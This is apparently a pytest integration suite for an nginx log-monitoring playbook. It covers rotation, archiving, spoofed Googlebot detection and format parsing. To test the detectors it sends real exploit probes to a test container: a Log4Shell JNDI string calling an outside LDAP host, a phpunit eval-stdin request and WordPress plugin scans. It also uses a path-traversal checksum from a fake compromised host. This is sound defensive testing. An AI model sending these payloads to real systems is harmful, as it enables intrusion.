"""SOP W3 on a real court container: visitor logs read across real logrotate rotations (every
request counted exactly once), rotated logs archived on the controller with retention, and the
monitor's own Googlebot-agent probes not reported while the same claim from elsewhere is."""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import json
import os
import shutil
import socket
import time
import urllib.error
import urllib.request
import zlib
from pathlib import Path

import pytest

from tests import fleet as fleet_lib
from tests.integration.sop_playbook import run_sop_playbook

pytestmark = pytest.mark.fleet

COURT = "pn-tais"
LOGROTATE = "/etc/logrotate.d/nginx"
GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
STRANGER = "5.188.62.140"


@pytest.fixture(scope="module")
def lg(tmp_path_factory):
    name = f"lg{os.getpid()}"
    try:
        running = fleet_lib.start(name, count=1, webservers=["nginx"])
    except fleet_lib.FleetError as error:
        fleet_lib.remove(name)
        pytest.fail(f"the court fleet did not start: {error}")
    work = tmp_path_factory.mktemp("logs")
    yield {"fleet": running, "work": work, "archive": work / "archive"}
    fleet_lib.remove(name)
    shutil.rmtree(running.directory, ignore_errors=True)


def playbook(lg, **extra) -> tuple[int, str, dict]:
    """Run playbooks/sop_logs.yml; returns (exit code, output, this court's pn_sop_result)."""
    variables = {"pn_logs_archive_dir": str(lg["archive"]), **extra}
    code, output, found = run_sop_playbook(
        "sop_logs.yml", lg["work"], "-i", str(lg["fleet"].inventory), "-e", json.dumps(variables)
    )
    return code, output, found.get(COURT, {})


def traffic(lg, phase: str, count: int, ua: str = "pn-logs-test/1.0") -> None:
    """``count`` real HTTP requests from the controller to the court, each with its own path."""
    court = lg["fleet"].court(COURT)
    for i in range(count):
        request = urllib.request.Request(
            f"http://{court.address}/?lg={phase}-{i}", headers={"Host": court.domain, "User-Agent": ua}
        )
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                response.read()
        except urllib.error.HTTPError as error:
            error.read()


def court_sh(lg, command: str) -> str:
    return lg["fleet"].exec(COURT, command).stdout


def logged_lines(lg) -> int:
    """Lines in the access log and all its rotations on the court."""
    out = court_sh(
        lg,
        "cd /var/log/nginx && { cat access.log access.log.[0-9] 2>/dev/null; "
        'for f in access.log.*.gz; do [ -e "$f" ] && zcat "$f"; done; } | wc -l',
    )
    return int(out.strip())


def rotate(lg) -> None:
    court_sh(lg, f"logrotate -f {LOGROTATE}")
    # nginx reopens its logs on the postrotate signal; wait until it writes to the new file. Each probe
    # has its own path: files are told apart by their first line, and two rotations within one second
    # could otherwise start two files with the same line (real logs rotate days apart).
    for _attempt in range(50):
        traffic(lg, f"probe-after-rotation-{time.time_ns()}", 1)
        if court_sh(lg, "wc -c < /var/log/nginx/access.log").strip() != "0":
            return
        time.sleep(0.2)
    raise AssertionError("nginx did not reopen its access log after the rotation")


def findings(result, rule: str) -> list:
    return [f for f in result["findings"] if f["rule"] == rule]


def test_rotation_archive_retention_and_trusted_probes(lg):
    archive = lg["archive"] / COURT

    # Run 1: everything logged so far (readiness checks and our traffic), including a Googlebot
    # agent request from the controller itself: counted, not reported.
    traffic(lg, "a", 25)
    traffic(lg, "a-googlebot", 1, ua=GOOGLEBOT_UA)
    total = logged_lines(lg)
    code, output, first = playbook(lg)
    assert code == 0, output[-3000:]
    assert first["outputs"]["lines"] == total
    assert first["outputs"]["malformed"] == 0
    assert findings(first, "fake-googlebot") == [], first["findings"]
    agents = {a["user_agent"]: a["count"] for a in first["outputs"]["summary"]["top_user_agents"]}
    assert agents.get(GOOGLEBOT_UA) == 1
    assert first["outputs"]["archived_files"] == []
    assert lg["archive"].stat().st_mode & 0o777 == 0o750  # the archive of every court is private

    # Rotation 1, new traffic and a Googlebot claim from an untrusted address (crafted line).
    rotate(lg)
    traffic(lg, "b", 30)
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    crafted = f'{STRANGER} - - [{stamp}] "GET /?lg=b-crafted HTTP/1.1" 200 1598 "-" "{GOOGLEBOT_UA}"'
    court_sh(lg, f"printf '%s\\n' '{crafted}' >> /var/log/nginx/access.log")
    seen = total
    total = logged_lines(lg)
    code, output, second = playbook(lg)
    assert code == 0, output[-3000:]
    assert second["outputs"]["lines"] == total - seen  # nothing of run 1 read again
    assert second["outputs"]["lines"] >= 31
    flagged = findings(second, "fake-googlebot")
    assert [f["ip"] for f in flagged] == [STRANGER]
    assert "b-crafted" in flagged[0]["samples"][0]

    # Two more rotations with traffic in between: access.log.1 is compressed (.2.gz) while it
    # still holds lines not read yet, and a plain rotation follows.
    traffic(lg, "c1", 20)
    rotate(lg)
    traffic(lg, "c2", 15)
    rotate(lg)
    gz = court_sh(lg, "ls /var/log/nginx/ | grep '^access.log.*gz$' || true").split()
    assert len(gz) >= 2, gz
    # An archive file older than the retention, and one fresh file that must stay.
    archive.mkdir(parents=True, exist_ok=True)
    old = archive / "access.log-0000000000000000.gz"
    old.write_bytes(gzip.compress(b"old\n"))
    past = time.time() - 30 * 86400
    os.utime(old, (past, past))
    seen = total
    total = logged_lines(lg)
    code, output, third = playbook(lg, pn_logs_archive_days=7)
    assert code == 0, output[-3000:]
    assert third["outputs"]["lines"] == total - seen  # the rest of the compressed file, once
    assert third["outputs"]["lines"] >= 20 + 15
    assert third["outputs"]["malformed"] == 0

    # Every rotated .gz is in the controller's archive, byte for byte, once; the old one is gone.
    assert not old.exists()
    archived = {hashlib.sha256(gzip.decompress(p.read_bytes())).hexdigest() for p in archive.glob("*.gz")}
    on_court = set()
    for name in gz:
        content = lg["fleet"].exec(COURT, f"zcat /var/log/nginx/{name} | sha256sum").stdout.split()[0]
        on_court.add(content)
    assert on_court <= archived
    assert len(list(archive.glob("*.gz"))) == len(gz)
    assert sorted(Path(p).name for p in third["outputs"]["archived_files"]) == sorted(
        p.name for p in archive.glob("*.gz")
    )

    # Nothing new: nothing read, nothing copied again (the court leaves the role before the copy task);
    # the result still names where each rotated log is kept.
    kept = {p.name: p.stat().st_mtime_ns for p in archive.glob("*.gz")}
    code, output, fourth = playbook(lg)
    assert code == 0, output[-3000:]
    assert fourth["outputs"]["lines"] == 0
    assert "Copy each rotated log into the archive once" not in output
    assert {p.name: p.stat().st_mtime_ns for p in archive.glob("*.gz")} == kept
    assert sorted(fourth["outputs"]["archived_files"]) == sorted(third["outputs"]["archived_files"])
    assert logged_lines(lg) == total


def _request(lg, path: str, method: str = "GET", ua: str = "pn-logs-test/1.0") -> None:
    court = lg["fleet"].court(COURT)
    request = urllib.request.Request(
        f"http://{court.address}{path}", method=method, headers={"Host": court.domain, "User-Agent": ua}
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            response.read()
    except urllib.error.HTTPError as error:
        error.read()


def test_real_attacks_and_the_court_rules_from_the_inventory(lg):
    """Real exploit requests and TLS bytes sent to the court's nginx, judged on the server with the
    rule file read on the controller, a rule of the court's own and a rule switched off."""
    court = lg["fleet"].court(COURT)
    _request(lg, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST")
    _request(lg, "/", ua="${jndi:ldap://203.0.113.66:1389/a}")
    for plugin in ("revslider", "duplicator", "wp-file-manager", "layerslider", "elementor", "wpdiscuz"):
        _request(lg, f"/wp-content/plugins/{plugin}/readme.txt")
    for _attempt in range(2):
        _request(lg, "/sipp/admin/")
    with socket.create_connection((court.address, 80), timeout=5) as sock:  # TLS to the HTTP port
        sock.sendall(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(32)))
        sock.settimeout(5)
        with contextlib.suppress(OSError):  # nginx answers 400 and closes
            sock.recv(4096)
    court_rule = {
        "id": "court-sipp-admin",
        "severity": "medium",
        "messages": {"id": "Admin SIPP diminta: {count}.", "en": "SIPP admin requested: {count}."},
        "match": {"path": "^/sipp/admin"},
        "threshold": {"count": 2, "window": 600},
    }
    code, output, result = playbook(
        lg,
        pn_logs_trust_controller=False,  # these requests come from the controller
        pn_logs_rules=[court_rule],
        pn_logs_rule_overrides={"wordpress-plugin-scan": {"enabled": False}},
    )
    assert code == 0, output[-3000:]
    rules = {f["rule"]: f for f in result["findings"]}
    assert {"exploit-phpunit", "exploit-log4shell", "garbage-request", "court-sipp-admin"} <= set(rules)
    assert "wordpress-plugin-scan" not in rules
    assert rules["exploit-log4shell"]["evidence"]["references"][0] == "CVE-2021-44228"
    assert "\\x16\\x03\\x01" in rules["garbage-request"]["samples"][0]  # nginx's escapes, verbatim

    # A mistake in the court's rules fails that court's task, naming the rule and the field.
    code, output, _result = playbook(lg, pn_logs_rules=[dict(court_rule, severity="urgent")])
    assert code != 0
    assert "'court-sipp-admin', field 'severity'" in output


MAIN_FORMAT = (
    'log_format pn_main \'$remote_addr - $remote_user [$time_local] "$request" $status '
    '$body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"\';\n'
    "access_log /var/log/nginx/main/access.log pn_main;\n"
)


def test_nginx_main_format_and_a_corrupt_rotation(lg):
    """A real nginx writing its main format (X-Forwarded-For after the agent) and a corrupt .gz
    rotation: the lines are read as main (detected, or named by pn_logs_format), none malformed,
    and the damaged rotation is in the W3 result with the lines read from it."""
    court_sh(lg, "mkdir -p /var/log/nginx/main")
    court_sh(
        lg,
        f"cat > /etc/nginx/conf.d/pn-main-format.conf <<'EOF'\n{MAIN_FORMAT}EOF\nnginx -t && nginx -s reload",
    )
    court = lg["fleet"].court(COURT)
    for _attempt in range(50):  # until the reloaded workers write the new log
        traffic(lg, f"main-probe-{time.time_ns()}", 1)
        if court_sh(lg, "cat /var/log/nginx/main/access.log 2>/dev/null | wc -l").strip() not in ("", "0"):
            break
        time.sleep(0.2)
    for i in range(12):
        request = urllib.request.Request(
            f"http://{court.address}/?main={i}",
            headers={"Host": court.domain, "X-Forwarded-For": f"180.252.1.{i}, 10.0.0.1"},
        )
        with urllib.request.urlopen(request, timeout=10) as response:
            response.read()
    written = court_sh(lg, "cat /var/log/nginx/main/access.log").splitlines()
    assert any(line.endswith('"180.252.1.3, 10.0.0.1"') for line in written), written[-3:]
    # an older rotation, compressed, with a damaged block in the middle
    # (another first line than the live log's: files are told apart by their first line)
    lines = "".join(f"{line}\n".replace(' HTTP/1.1"', ' HTTP/1.0"') for line in written) * 400
    packed = bytearray(gzip.compress(lines.encode()))
    packed[len(packed) // 2 : len(packed) // 2 + 64] = b"\xff" * 64
    court_sh(
        lg,
        f"echo {base64.b64encode(bytes(packed)).decode()} | base64 -d > /var/log/nginx/main/access.log.1.gz",
    )
    # the lines zlib hands back whole before it notices the damage: they must all be read as main
    intact_lines = _intact_lines(bytes(packed), lines.encode())
    assert intact_lines > 1000
    paths = {"pn_logs_access_paths": ["/var/log/nginx/main/access.log"], "pn_logs_collect": False}
    for fmt in ("auto", "main"):
        state = {"pn_logs_state_path": f"/var/lib/pn-website/main-{fmt}.json"}
        code, output, result = playbook(lg, pn_logs_format=fmt, **paths, **state)
        assert code == 0, output[-3000:]
        outputs = result["outputs"]
        read = len(written)
        (damaged,) = outputs["unreadable_logs"]
        assert damaged["path"] == "/var/log/nginx/main/access.log.1.gz"
        # how far past the damage zlib decodes garbage (newlines included) depends on the data,
        # so the count read from the rotation has no upper bound here
        assert damaged["lines_read"] > 0
        assert outputs["lines"] == read + damaged["lines_read"]
        # the live log and the rotation's whole lines are main. Past the damage, zlib may rebuild
        # lines from the wrong earlier text (a bad copy drops a field): read as whatever they fit
        # when the format is detected per line, malformed when it is named.
        good = outputs["lines"] - outputs["malformed"]
        formats = outputs["formats"]
        assert outputs["format"] == "main" and sum(formats.values()) == good
        assert formats["main"] >= read + intact_lines
        if fmt == "main":
            assert formats == {"main": good}
        else:
            assert good - formats["main"] <= damaged["lines_read"] - intact_lines


def _intact_lines(packed: bytes, original: bytes) -> int:
    """The number of whole lines a gzip stream damaged in the middle gives back unchanged."""
    decoder = zlib.decompressobj(wbits=31)
    out = bytearray()
    try:
        for start in range(0, len(packed), 256):
            out += decoder.decompress(packed[start : start + 256])
    except zlib.error:
        pass
    same = len(os.path.commonprefix([bytes(out), original]))
    return original[:same].count(b"\n")


LYING_PYTHON = "/usr/local/bin/pn-lying-python3"
# A compromised court answers every module with checksums of its choosing: a path, here.
LIE = "/../../../../../"
CHECKSUM = '"checksum": "[0-9a-f]{40}"'


def test_a_court_that_lies_about_its_rotated_logs_writes_nothing_outside_the_archive(lg):
    """The rotated logs' archive names come from the court's own listing (the `rotated` answer of its
    access_log_audit run): a compromised court answering a checksum that climbs out (``/../../..``) gets
    none of its files copied, and nothing is written outside its folder of the archive."""
    court_sh(lg, "gzip -c /etc/hostname > /var/log/nginx/access.log.9.gz")
    court_sh(
        lg,
        f"cat > {LYING_PYTHON} <<'EOF'\n#!/bin/sh\n"
        f'/usr/bin/python3 "$@" | sed -E \'s#{CHECKSUM}#"checksum": "{LIE}evil"#g\'\n'
        f"EOF\nchmod 0755 {LYING_PYTHON}",
    )
    archive = lg["archive"] / COURT
    escaped = Path(os.path.normpath(f"{archive}/access.log-{LIE}.gz"))
    assert not str(escaped).startswith(str(lg["archive"]))
    before = sorted(p.name for p in archive.glob("*")) if archive.exists() else []
    # the court's own interpreter (an inventory value: extra vars would reach the controller's tasks too)
    lying = lg["work"] / "lying.yml"
    lying.write_text(json.dumps({"all": {"hosts": {COURT: {"ansible_python_interpreter": LYING_PYTHON}}}}))
    try:
        code, output, found = run_sop_playbook(
            "sop_logs.yml",
            lg["work"],
            *("-i", str(lg["fleet"].inventory), "-i", str(lying)),
            *("-e", json.dumps({"pn_logs_archive_dir": str(lg["archive"])})),
        )
        result = found.get(COURT, {})
    finally:
        court_sh(lg, f"rm -f {LYING_PYTHON} /var/log/nginx/access.log.9.gz")
        created = escaped.exists()
        with contextlib.suppress(FileNotFoundError):
            escaped.unlink()
    assert not created, f"the court's answer wrote {escaped} on the controller"
    assert code == 0, output[-3000:]
    assert result["status"]  # judged all the same (what it says of its own archive is its own claim)
    assert sorted(p.name for p in archive.glob("*")) == before
